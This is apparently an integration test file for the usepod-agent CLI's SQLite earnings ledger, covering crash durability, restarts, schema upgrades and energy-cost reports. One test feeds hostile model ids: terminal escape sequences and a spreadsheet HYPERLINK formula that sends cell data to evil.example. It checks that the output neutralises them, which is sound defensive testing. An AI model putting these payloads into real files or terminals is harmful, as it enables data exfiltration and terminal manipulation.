import type { ChildProcess } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { JobRecord } from '@usepod-agent/core';
import { Ledger } from '@usepod-agent/plugin-ledger';
import type { TestCoordinator, VllmEmulator } from '@usepod-agent/testkit';
import Database from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { homeEnv, runAgent, cli as runCli, type Scratch, scratch } from './cli.js';

/**
 * The operator's ledger (issue 18), through the real CLI and a real SQLite file: every job received is a
 * row, refusals too; a SIGKILL under load loses no job the coordinator saw end; counters resume after a
 * restart; `earnings` sums it. What needs no CLI (a locked, failing or newer ledger, the SQL sums) is
 * tested in packages/plugin-ledger.
 */

let dir: string;
let coordinator: TestCoordinator;
let engine: VllmEmulator;
let children: ChildProcess[];

let s: Scratch;
beforeEach(async () => {
  s = await scratch('usepod-ledger-', { tokenDelayMs: 1, defaultTokens: 8 });
  ({ dir, coordinator, engine, children } = s);
});
afterEach(() => s.close());

const env = () => homeEnv(dir);

async function config(extra = ''): Promise<string> {
  const path = join(dir, 'agent.toml');
  await writeFile(
    path,
    `[coordinator]\nurl = "${coordinator.url}"\n[identity]\nkey_path = "${join(dir, 'id', 'identity.key')}"\n[[backends]]\nkind = "vllm"\nurl = "${engine.url}"\n[observability]\nprometheus_addr = "127.0.0.1:0"\n${extra}`,
  );
  return path;
}

/** `usepod-agent run` in its own process; resolves once it is authenticated and has advertised. */
const run = (cfg: string) => runAgent(cfg, { env: env(), cwd: dir, coordinator, children });

const cli = (args: string[]) => runCli(args, { env: env(), cwd: dir });

const ledgerFile = () => join(dir, 'id', 'ledger.db');

describe('the ledger', () => {
  it('loses no job the coordinator saw end when the agent is killed with SIGKILL under load', async () => {
    const cfg = await config('[limits]\nmax_concurrent = 16\n');
    const a = await run(cfg);
    const dispatched = new Set<string>();
    const ended = new Set<string>();
    let stop = false;
    // Killed once 60 jobs ended (not after a time: the machine may be busy), with 12 more in flight.
    let enough!: () => void;
    const sixty = new Promise<void>((r) => {
      enough = r;
    });
    const lane = async () => {
      while (!stop) {
        const job = a.session.dispatch({ model_id: 'Qwen/Qwen3-14B' });
        dispatched.add(job.jobId);
        const end = await Promise.race([job.done(), a.session.closed.then(() => undefined)]);
        if (!end) return;
        ended.add(job.jobId);
        if (ended.size >= 60) enough();
      }
    };
    const lanes = Array.from({ length: 12 }, lane);
    await sixty;
    a.child.kill('SIGKILL');
    stop = true;
    await a.exited;
    await Promise.all(lanes);
    expect(ended.size).toBeGreaterThan(50);
    const db = new Database(ledgerFile());
    const ids = new Set(
      (db.prepare('SELECT job_id FROM jobs').all() as { job_id: string }[]).map((r) => r.job_id),
    );
    db.close();
    const lost = [...ended].filter((id) => !ids.has(id));
    expect(lost).toEqual([]);
    for (const id of ids) expect(dispatched.has(id)).toBe(true);
  }, 60_000);

  it('records refusals as missed jobs, resumes the counters after a restart, and `earnings` sums it', async () => {
    const cfg = await config('[limits]\nmax_concurrent = 1\n');
    const a = await run(cfg);
    engine.behave({ kind: 'controlled' }, { times: 1 });
    const held = a.session.dispatch({ model_id: 'Qwen/Qwen3-14B' });
    const stream = await engine.controlled.waitFor();
    expect(await a.session.dispatch({ model_id: 'Qwen/Qwen3-14B' }).done()).toMatchObject({
      error_code: 'out_of_capacity',
    });
    stream.end(
      'data: {"choices":[{"delta":{"content":"hi"},"finish_reason":"stop"}],"usage":{"prompt_tokens":10,"completion_tokens":20,"total_tokens":30}}\n\ndata: [DONE]\n\n',
    );
    expect((await held.done()).type).toBe('job_done');
    expect(await a.session.dispatch({ model_id: 'nope' }).done()).toMatchObject({
      error_code: 'model_not_loaded',
    });
    for (let i = 0; i < 2; i++)
      expect((await a.session.dispatch({ model_id: 'Qwen/Qwen3-14B' }).done()).type).toBe('job_done');
    a.child.kill('SIGTERM');
    expect(await a.exited).toBe(0);

    const db = new Database(ledgerFile(), { readonly: true });
    expect(
      db.prepare('SELECT refusal, count(*) AS n FROM jobs GROUP BY refusal ORDER BY refusal').all(),
    ).toEqual([
      { refusal: null, n: 3 },
      { refusal: 'max_concurrent', n: 1 },
      { refusal: 'model_not_loaded', n: 1 },
    ]);
    db.close();
    const json = await cli(['earnings', '--config', cfg, '--since', '1h', '--json']);
    expect(json.code, json.stderr).toBe(0);
    const doc = JSON.parse(json.stdout) as { rows: Record<string, unknown>[] };
    const qwen = doc.rows.find((r) => r.group === 'Qwen/Qwen3-14B')!;
    expect(qwen).toMatchObject({ served: 3, missed: 1, failed: 0 });
    expect(qwen.earnings_usdc as number).toBeGreaterThan(0);
    expect(doc.rows.find((r) => r.group === 'nope')).toMatchObject({ served: 0, missed: 1 });
    const csv = await cli(['earnings', '--config', cfg, '--since', '1h', '--csv', '--by', 'backend']);
    expect(csv.stdout.split('\n')[0]).toBe(
      'group,served,failed,missed,cancelled,input_tokens,output_tokens,earnings_usdc,tokens_per_sec,busy,energy_kwh,idle_kwh,energy_cost_usdc,net_usdc,usdc_per_kwh',
    );
    const table = await cli(['earnings', '--config', cfg, '--by', 'day']);
    expect(table.stdout).toMatch(/^total\s+3\s+0\s+2\s/m);
    const bad = await cli(['earnings', '--config', cfg, '--since', 'yesterdayish']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/^usepod-agent: --since yesterdayish is not a duration or a date/);

    // A restart: Prometheus' totals go on from the ledger before any new job.
    const b = await run(cfg);
    const port = /metrics and status served url=http:\/\/127\.0\.0\.1:(\d+)\/metrics/.exec(b.stderr())![1];
    const metrics = await (await fetch(`http://127.0.0.1:${port}/metrics`)).text();
    const sum = (re: RegExp) =>
      metrics
        .split('\n')
        .filter((l) => re.test(l))
        .reduce((n, l) => n + Number(l.split(' ').at(-1)), 0);
    expect(sum(/^usepod_agent_jobs_total\{.*outcome="done"/)).toBe(3);
    expect(sum(/^usepod_agent_jobs_total\{.*error_code="out_of_capacity"/)).toBe(1);
    expect(sum(/^usepod_agent_earnings_micro_usdc_total\{/)).toBeGreaterThan(0);
    // `status` adds today and the last 7 days from the ledger to what the live agent says.
    const status = await cli(['status', '--config', cfg, '--addr', `127.0.0.1:${port}`]);
    expect(status.stdout).toMatch(/^ {2}today {9}\d+\.\d{6} USDC \(3 served, 2 missed, 0 failed\)$/m);
    expect(status.stdout).toMatch(/^ {2}last 7 days {3}\d+\.\d{6} USDC \(3 served, 2 missed, 0 failed\)/m);
    const statusJson = JSON.parse(
      (await cli(['status', '--config', cfg, '--addr', `127.0.0.1:${port}`, '--json'])).stdout,
    );
    expect(statusJson.sections.ledger.today).toMatchObject({ served: 3, missed: 2 });
    b.child.kill('SIGTERM');
    await b.exited;
  }, 60_000);

  it('upgrades a ledger an older agent wrote, keeping its rows', async () => {
    const cfg = await config();
    await mkdir(join(dir, 'id'), { recursive: true });
    // Schema 1, as the first ledger-keeping agent wrote it: no refusal column.
    const old = new Database(ledgerFile());
    old.exec(
      `CREATE TABLE jobs (job_id TEXT NOT NULL, model TEXT NOT NULL, backend TEXT, format TEXT NOT NULL,
         received_at INTEGER NOT NULL, first_byte_ms INTEGER, duration_ms INTEGER NOT NULL, outcome TEXT NOT NULL,
         error_code TEXT, input_tokens INTEGER NOT NULL, output_tokens INTEGER NOT NULL, bytes INTEGER NOT NULL,
         input_per_1m INTEGER, output_per_1m INTEGER, earnings_micro REAL NOT NULL);
       CREATE INDEX jobs_received_at ON jobs (received_at);
       INSERT INTO jobs VALUES ('old-1', 'm', 'vllm', 'openai', ${Date.now() - 1000}, 5, 50, 'done', NULL, 1, 2, 3, 10, 20, 0.00005);
       PRAGMA user_version = 1;`,
    );
    old.close();
    const a = await run(cfg);
    // The coordinator names the model: an id carrying a terminal escape is stored as sent, shown folded.
    const hostile = 'nope\u001b[2J\u001b]0;owned\u0007';
    expect((await a.session.dispatch({ model_id: hostile }).done()).type).toBe('job_error');
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    expect((await a.session.dispatch({ model_id: formula }).done()).type).toBe('job_error');
    a.child.kill('SIGTERM');
    await a.exited;
    const table = await cli(['earnings', '--config', cfg, '--since', '1h']);
    expect(table.stdout).toMatch(/^nope \[2J \]0;owned\s/m);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: what must not reach the terminal
    expect(table.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
    // In CSV a cell a spreadsheet would run as a formula is written as text.
    const csv = await cli(['earnings', '--config', cfg, '--since', '1h', '--csv', '--by', 'model']);
    expect(csv.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv.stdout).not.toMatch(/^"?=/m);
    expect(csv.stdout).toMatch(/^nope \[2J \]0;owned /m);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: what must not reach the terminal
    expect(csv.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
    const db = new Database(ledgerFile(), { readonly: true });
    expect(db.pragma('user_version', { simple: true })).toBe(4);
    // The old row is in the quarter-hour summaries `earnings` reads (backfilled once).
    expect(db.prepare("SELECT sum(served) FROM job_sums WHERE model = 'm'").pluck().get()).toBe(1);
    expect(db.prepare('SELECT job_id, refusal FROM jobs ORDER BY received_at').all()).toEqual([
      { job_id: 'old-1', refusal: null },
      { job_id: expect.any(String), refusal: 'model_not_loaded' },
      { job_id: expect.any(String), refusal: 'model_not_loaded' },
    ]);
    db.close();
  }, 60_000);

  it('`earnings --by model` lists the 50 models that earned most and one line for the rest, however many ids the coordinator sent', async () => {
    const cfg = await config();
    await mkdir(join(dir, 'id'), { recursive: true });
    const at = Date.now() - 60_000;
    const job = (o: Partial<JobRecord>): JobRecord => ({
      jobId: `j-${Math.random()}`,
      model: 'm',
      backend: 'vllm',
      outcome: 'done',
      inputTokens: 0,
      outputTokens: 0,
      bytes: 1,
      durationMs: 0,
      firstByteMs: undefined,
      receivedAt: at,
      format: 'openai',
      inputPer1m: 1_000_000,
      outputPer1m: 0,
      ...o,
    });
    const l = Ledger.open(ledgerFile());
    // 60 models served, then 3,000 refused jobs each naming a model id of the coordinator's own.
    l.write([
      ...Array.from({ length: 60 }, (_, i) => job({ model: `served-${i}`, inputTokens: 1_000 * (i + 1) })),
      ...Array.from({ length: 3_000 }, (_, i) =>
        job({
          model: `evil/${i}`,
          outcome: 'error',
          errorCode: 'model_not_loaded',
          refusal: 'model_not_loaded',
        }),
      ),
    ]);
    l.close();
    const table = await cli(['earnings', '--config', cfg, '--since', '1h']);
    expect(table.code, table.stderr).toBe(0);
    const lines = table.stdout.trim().split('\n');
    // The heading, the header, 50 models, the rest, the total, the energy note.
    expect(lines).toHaveLength(55);
    expect(lines[2]).toMatch(/^served-59\s+1\s+0\s+0\s/);
    expect(lines.at(-3)).toMatch(/^and 3010 more\s+10\s+0\s+3000\s+55000\s+0\s+0\.055000$/);
    expect(lines.at(-2)).toMatch(/^total\s+60\s+0\s+3000\s+1830000\s+0\s+1\.830000$/);
    const json = JSON.parse((await cli(['earnings', '--config', cfg, '--since', '1h', '--json'])).stdout);
    expect(json.rows).toHaveLength(50);
    expect(json.more).toMatchObject({ groups: 3_010, served: 10, missed: 3_000 });
    expect(json.totals).toMatchObject({ served: 60, missed: 3_000 });
    const csv = (await cli(['earnings', '--config', cfg, '--since', '1h', '--csv'])).stdout
      .trim()
      .split('\n');
    expect(csv).toHaveLength(52);
    expect(csv.at(-1)).toBe('(3010 more models),10,0,3000,0,55000,0,0.055000,,,,,,,');
  }, 60_000);

  it('keeps none when [ledger] path = "off"; `earnings` says when there is none yet', async () => {
    const fresh = await cli(['earnings', '--config', await config()]);
    expect(fresh.stdout).toMatch(
      /^No ledger yet at .*ledger\.db: `usepod-agent run` writes it as jobs arrive\.$/m,
    );
    const cfg = await config('[ledger]\npath = "off"\n');
    const a = await run(cfg);
    expect((await a.session.dispatch({ model_id: 'Qwen/Qwen3-14B' }).done()).type).toBe('job_done');
    a.child.kill('SIGTERM');
    await a.exited;
    expect(existsSync(ledgerFile())).toBe(false);
  }, 60_000);

  it('`earnings` prices the energy in the ledger: kWh, cost, net and USDC per kWh at a flat and a time-of-use tariff', async () => {
    // Yesterday (UTC): jobs and the GPUs' energy on both sides of 17:00, when the dear tariff starts.
    const day = Math.floor(Date.now() / 86_400_000) * 86_400_000 - 86_400_000;
    const at = (h: number, m: number) => day + (h * 60 + m) * 60_000;
    const job = (
      id: string,
      model: string,
      receivedAt: number,
      out: number,
      outPer1m: number,
    ): JobRecord => ({
      jobId: id,
      model,
      backend: 'vllm',
      outcome: 'done',
      inputTokens: 0,
      outputTokens: out,
      bytes: 1,
      durationMs: 60_000,
      firstByteMs: 100,
      receivedAt,
      format: 'openai',
      inputPer1m: 0,
      outputPer1m: outPer1m,
    });
    await mkdir(join(dir, 'id'), { recursive: true });
    const l = Ledger.open(ledgerFile());
    // m-a earns 0.2 USDC per job, m-b 0.001.
    l.write([
      job('x', 'm-a', at(16, 40), 100_000, 2_000_000),
      job('y', 'm-a', at(17, 20), 100_000, 2_000_000),
    ]);
    l.write([job('z', 'm-b', at(17, 25), 1000, 1_000_000)]);
    l.write([], [], {
      jobs: [
        { jobId: 'x', receivedAt: at(16, 40), wh: 200 },
        { jobId: 'y', receivedAt: at(17, 20), wh: 100 },
        { jobId: 'z', receivedAt: at(17, 25), wh: 50 },
      ],
      periods: [
        { from: at(16, 30), to: at(17, 0), servingWh: 200, idleWh: 20 },
        { from: at(17, 0), to: at(17, 30), servingWh: 150, idleWh: 10 },
      ],
    });
    l.close();
    const flat = await config('[energy]\nprice_per_kwh = 0.1\n');
    const earn = async (cfg: string, ...args: string[]) => {
      const r = await runCli(['earnings', '--config', cfg, '--since', '3d', ...args], {
        env: homeEnv(dir, { TZ: 'UTC' }),
        cwd: dir,
      });
      expect(r.stderr).toBe('');
      return r.stdout;
    };
    const json = async (cfg: string, by = 'model') => JSON.parse(await earn(cfg, '--json', '--by', by));
    const f = await json(flat);
    expect(f.energy_note).toBeNull();
    const a = f.rows.find((r: { group: string }) => r.group === 'm-a');
    expect(a).toMatchObject({ earnings_usdc: 0.4, energy_kwh: 0.3 });
    expect(a.energy_cost_usdc).toBeCloseTo(0.03, 12);
    expect(a.net_usdc).toBeCloseTo(0.37, 12);
    expect(a.usdc_per_kwh).toBeCloseTo(0.4 / 0.3, 12);
    // The total's energy is all the GPUs used, idle too.
    expect(f.totals.energy_kwh).toBeCloseTo(0.38, 12);
    expect(f.totals.idle_kwh).toBeCloseTo(0.03, 12);
    expect(f.totals.energy_cost_usdc).toBeCloseTo(0.038, 12);
    expect(f.totals.net_usdc).toBeCloseTo(0.401 - 0.038, 12);

    // From 17:00 UTC the kWh costs 0.4: each quarter hour at the price in force then.
    const tou = await config(
      '[energy]\nprice_per_kwh = 0.1\ntimezone = "UTC"\n[[energy.tariff]]\nwhen = "daily 17:00-21:00"\nprice_per_kwh = 0.4\n',
    );
    const t = await json(tou);
    const cost = (g: string) => t.rows.find((r: { group: string }) => r.group === g).energy_cost_usdc;
    expect(cost('m-a')).toBeCloseTo(0.2 * 0.1 + 0.1 * 0.4, 12);
    expect(cost('m-b')).toBeCloseTo(0.05 * 0.4, 12);
    expect(t.rows.find((r: { group: string }) => r.group === 'm-b').net_usdc).toBeCloseTo(0.001 - 0.02, 12);
    expect(t.totals.energy_cost_usdc).toBeCloseTo(0.22 * 0.1 + 0.16 * 0.4, 12);
    // By hour: the GPUs' energy of each hour, idle included, at its price.
    const h = await json(tou, 'hour');
    expect(
      h.rows.map((r: { energy_kwh: number; idle_kwh: number; energy_cost_usdc: number }) => [
        r.energy_kwh.toFixed(6),
        r.idle_kwh.toFixed(6),
        r.energy_cost_usdc.toFixed(6),
      ]),
    ).toEqual([
      ['0.220000', '0.020000', '0.022000'],
      ['0.160000', '0.010000', '0.064000'],
    ]);
    // CSV carries the same figures; the table shows them with a line on serving and idle energy.
    const csv = (await earn(tou, '--csv')).trim().split('\n');
    expect(csv[0]).toMatch(/,energy_kwh,idle_kwh,energy_cost_usdc,net_usdc,usdc_per_kwh$/);
    expect(csv.find((x) => x.startsWith('m-b,'))).toMatch(
      /^m-b,1,0,0,0,0,1000,0\.001000,16\.7,0\.\d{4},0\.050000,,0\.020000,-0\.019000,0\.020000$/,
    );
    const table = await earn(tou);
    expect(table).toMatch(/^\s+SERVED .* KWH\s+COST\s+NET\s+USDC\/KWH$/m);
    expect(table).toMatch(/^Energy: 0\.3500 kWh serving, 0\.0300 kWh idle \(in the total\)\.$/m);

    // A ledger with no energy (no GPU tool): nothing is counted, one line says why.
    const bare = join(dir, 'bare.db');
    const b = Ledger.open(bare);
    b.write([job('w', 'm-a', at(12, 0), 10, 1_000_000)]);
    b.close();
    const none = await config(`[energy]\nprice_per_kwh = 0.1\n[ledger]\npath = "${bare}"\n`);
    const n = await json(none);
    expect(n.rows[0]).toMatchObject({ served: 1, energy_kwh: null, energy_cost_usdc: null, net_usdc: null });
    expect(n.energy_note).toMatch(/^no energy measured in this window/);
    const lines = (await earn(none)).trim().split('\n');
    expect(lines.filter((x) => x.startsWith('Energy:'))).toEqual([
      'Energy: no energy measured in this window (no nvidia-smi or rocm-smi, or no [energy] section): kWh and cost are not counted.',
    ]);
    expect(lines.join('\n')).not.toMatch(/KWH/);
  }, 60_000);
});
